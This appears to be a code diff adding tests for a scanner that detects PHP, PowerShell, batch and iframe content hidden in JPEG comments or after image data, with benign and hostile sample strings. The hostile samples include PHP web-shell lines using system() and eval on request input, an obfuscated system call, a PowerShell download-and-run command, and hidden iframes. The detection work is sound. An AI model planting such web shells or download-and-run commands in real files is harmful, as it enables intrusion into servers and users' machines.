@@ -80,3 +80,63 @@ def test_finds_pages_with_blanks_and_text_where_they_may_stand(fired: Fired) -> 
     ]
     files = in_comments(pages)
     assert places(fired(RULE, files)) == dict.fromkeys(files, "an HTML page in the comment of the JPEG")
+
+
+ENCODINGS = {"8 bits": "latin-1", "le": "utf-16-le", "be": "utf-16-be"}
+
+
+@pytest.mark.parametrize("encoding", ENCODINGS)
+def test_is_silent_about_words_on_switches_and_tags(fired: Fired, encoding: str) -> None:
+    told = [
+        "PowerShell -NoProfile switch explained in class",
+        "PowerShell -NoProfile -NonInteractive are switches",
+        "PowerShell -ExecutionPolicy Bypass explained",
+        "PowerShell -Command is a switch",
+        "PowerShell -File runs a file such as a.ps1",
+        "powershell -nologo and others, see page 7",
+        "@echo off explained in a sentence",
+        "Slide: <?php opens a block; echo prints",
+        "<?php for beginners (part 2)",
+        "<?php use it with care; slide 3",
+        "The <?php ?> tags (and <?= ?>); a talk",
+        "<?php and $variables; <?php - the tag (opening)",
+        'Talk: <iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
+        "<iframe src=//player.example.org/1></iframe>",
+    ]
+    texts = [text.encode(ENCODINGS[encoding]) for text in told]
+    files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
+    assert fired(RULE, files) == {}
+
+
+@pytest.mark.parametrize("encoding", ENCODINGS)
+def test_finds_what_a_server_or_a_shell_would_run(fired: Fired, encoding: str) -> None:
+    run = [
+        "<?php system($_GET['c']); ?>",
+        "<?php\n\nnamespace A\\B;\necho 1;",
+        "<?php echo prints; ?>",
+        "<?php @eval($_POST[1]);",
+        "<?php /* a comment */ phpinfo();",
+        "<?php // a comment\nphpinfo();",
+        "<?php phpinfo ();",
+        "<?php ('sys'.'tem')('id');",
+        "<?php include 'a.php';",
+        "<?php class A extends B { function f() {} }",
+        "<?php if ($a): ?>",
+        "<?php return new A(1);",
+        "<?php start: exit;",
+        "<?php __halt_compiler();",
+        "<?php `id`;",
+        "Photo <?PHP die(1);",
+        "powershell -nop Get-Process | Out-File a",
+        "powershell -ep bypass C:\\a.ps1",
+        "powershell -nop iex (iwr http://x)",
+        "@echo off\r\ndel a\r\n",
+        "<iframe src='https://example.org/x' width=0 height=0></iframe>",
+        "<iframe src='https://example.org/x' style='display: none'></iframe>",
+        "<iframe src='//example.org/x' onload='x()'></iframe>",
+        "<iframe src='javascript:x()'></iframe>",
+        "<iframe srcdoc='x' src='//example.org'></iframe>",
+    ]
+    texts = [text.encode(ENCODINGS[encoding]) for text in run]
+    files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
+    assert sorted(files.keys() - fired(RULE, files).keys()) == []
